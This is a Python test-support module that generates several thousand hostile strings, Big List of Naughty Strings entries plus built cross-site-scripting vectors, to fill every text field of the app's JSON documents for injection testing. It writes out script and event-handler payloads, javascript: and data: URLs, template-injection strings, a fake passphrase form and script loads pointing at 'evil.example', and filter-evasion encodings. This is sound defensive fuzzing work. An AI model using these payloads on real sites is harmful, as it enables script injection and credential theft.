"""Hostile texts for every field: the Big List of Naughty Strings, and markup made of what has broken pages before.

No list of others is copied beside that one. The rest is built: ways out of a context × elements and handlers that run
something × spellings that slip past filters, which gives more than seven thousand texts, in one fixed order.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Sequence
from functools import cache
from itertools import product
from typing import Any, Final

from tests.support.shared import ROOT
from ui.text import clean, one_line

CANARY: Final = "window.__pwned=1"
FOREIGN: Final = "https://evil.example"
_WAYS_OUT: Final = ("", '">', "'>", '" ', "</title>", "</textarea>", "</style></script>", "-->", "]]>", "</a></p>",
                    "`>", "\n\n")
_HANDLERS: Final = (
    "<img src=x onerror={js}>", "<svg onload={js}>", "<body onload={js}>", "<input autofocus onfocus={js}>",
    "<details open ontoggle={js}>x</details>", "<video><source onerror={js}></video>", "<audio src=x onerror={js}>",
    "<marquee onstart={js}>x</marquee>", "<a href=x onmouseover={js}>x</a>", "<div onpointerenter={js}>x</div>",
    "<select autofocus onfocus={js}></select>", "<iframe onload={js}></iframe>", "<style onload={js}></style>",
    "<svg><animate onbegin={js} attributeName=x dur=1s></svg>", "<x onclick={js} contenteditable>x</x>",
    "<form onsubmit={js}><button>x</button></form>", "<object onerror={js} data=x></object>",
    "<p style='animation-name:x' onanimationstart={js}>x</p>",
)
_ELEMENTS: Final = (
    "<script>{js}</script>", "<script src={url}/x.js></script>", "<img src={url}/beacon.png>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>", "<iframe src=javascript:{js}></iframe>",
    "<link rel=stylesheet href={url}/x.css>", "<style>@import '{url}/x.css';</style>", "<base href={url}/>",
    "<meta http-equiv=refresh content='0;url={url}'>", "<object data={url}/x.swf></object>",
    "<embed src=javascript:{js}>", "<form action={url}><input name=passphrase><button>Continue</button></form>",
    "<math><mtext><a href=javascript:{js}>x</a></mtext></math>", "<a href=javascript:{js}>x</a>",
    "<svg><script>{js}</script></svg>", "<svg><use href='data:image/svg+xml,<svg onload={js}>#x'/></svg>",
    "<svg><foreignObject><iframe src=javascript:{js}></iframe></foreignObject></svg>",
    "<template><script>{js}</script></template>", "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<table background={url}/b.png><td>x</td></table>", "<video poster={url}/b.png></video>",
    "[x](javascript:{js})", "![x]({url}/beacon.png)", "[x](data:text/html,<script>{js}</script>)",
    "<{url}>", "[x][y]\n\n[y]: javascript:{js}", "{{{{ 7 * 7 }}}}{{% include 'x' %}}<b>{js}</b>",
    "${{{js}}}#{{{js}}}<%= {js} %>", "javascript:{js}//{url}", "data:text/html;base64,PHNjcmlwdD4={js}",
)


def _same(text: str) -> str:
    return text


def _loud(text: str) -> str:
    """Capitals in turn: names of elements and schemes are the same in any case."""
    return "".join(c.upper() if index % 2 else c for index, c in enumerate(text))


def _tabbed(text: str) -> str:
    return text.replace("script", "scr\tipt").replace("onerror", "onerror\n").replace("<", "<\u0000", 1)


def _slashed(text: str) -> str:
    return text.replace(" ", "/")


def _entities(text: str) -> str:
    return text.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&#34;")


def _numbered(text: str) -> str:
    return text.replace("<", "&#x3c").replace("javascript:", "java&Tab;script&colon;")


def _percent(text: str) -> str:
    return text.replace("<", "%3C").replace(">", "%3E").replace('"', "%22")


def _unicode(text: str) -> str:
    return text.replace("<", "\\u003c").replace(">", "\\u003e")


def _wide(text: str) -> str:
    return text.replace("<", "\uff1c").replace(">", "\uff1e").replace('"', "\uff02")


def _turned(text: str) -> str:
    """With characters that hide or turn others (F11)."""
    return f"\u202e{text}\u2066\u200b\ufeff"


def _unclosed(text: str) -> str:
    return text.rstrip(">")


def _twice(text: str) -> str:
    return text.replace("<script", "<scr<script>ipt").replace("onerror", "ononerrorerror")


def _long(text: str) -> str:
    return "A" * 90 + text


_SPELLINGS: Final[Sequence[Callable[[str], str]]] = (
    _same, _loud, _tabbed, _slashed, _entities, _numbered, _percent, _unicode, _wide, _turned, _unclosed, _twice, _long)


@cache
def corpus() -> tuple[str, ...]:
    """Every text once, none empty, well mixed: any stretch of it holds all kinds."""
    listed = json.loads((ROOT / "tests" / "vectors" / "naughty-strings" / "blns.json").read_text(encoding="utf-8"))
    built = [spelling(way_out + vector.format(js=CANARY, url=FOREIGN))
             for spelling, way_out, vector in product(_SPELLINGS, _WAYS_OUT, (*_HANDLERS, *_ELEMENTS))]
    texts = [text for text in dict.fromkeys([*listed, *built]) if text.strip() and not _is_half(text)]
    step = 1009  # a prime, so that every text comes once
    assert len(texts) % step
    return tuple(texts[index * step % len(texts)] for index in range(len(texts)))


def _is_half(text: str) -> bool:
    """Half a character, which no UTF-8 can hold."""
    return any("\ud800" <= c <= "\udfff" for c in text)


class Supply:
    """Gives the corpus out, a text for each field; it begins anew when it is through.

    Attributes:
        given: How many were given so far.
    """

    def __init__(self, begin: int = 0) -> None:
        self.given = begin

    def text(self, most: int = 2_000) -> str:
        """The next text, cut to ``most`` characters; with a letter, where a field wants one."""
        found = corpus()[self.given % len(corpus())]
        self.given += 1
        return found[:most] if clean(found[:most]).strip() else f"x{found}"[:most]

    def line(self, most: int = 200) -> str:
        """The next text as a field takes it that wants one line of visible characters."""
        return one_line(self.text(most), most)

    def texts(self, count: int, most: int = 2_000) -> Iterator[str]:
        """Several."""
        return (self.text(most) for _ in range(count))

    def poison(self, value: Any, *, name: str = "", most: int = 2_000) -> Any:
        """A JSON document with a hostile text in place of each word that people read; its structure stays.

        Names of members, ids, types, addresses, days and numbers stay: without them it would not be shown at all.
        """
        if isinstance(value, dict):
            return {key: self.poison(each, name=key, most=most) for key, each in value.items()}
        if isinstance(value, list):
            return [self.poison(each, name=name, most=most) for each in value]
        if not isinstance(value, str) or name in _STRUCTURE or _is_structure(value):
            return value
        return self.text(most)


_STRUCTURE: Final = frozenset({
    "@context", "id", "type", "achievementType", "resultType", "resultDescription", "identityType", "proof", "status",
    "inLanguage", "targetType", "identifier", "uri", "associationType", "CFItemType", "educationLevel", "language",
    "statusPurpose", "statusListIndex", "statusListCredential", "proofValue", "tag", "image"})


def _is_structure(text: str) -> bool:
    day = len(text) >= 10 and text[4:5] == text[7:8] == "-" and text[:4].isdigit()
    return day or text.startswith(("https://", "urn:", "did:")) or text.replace(".", "", 1).isdigit()
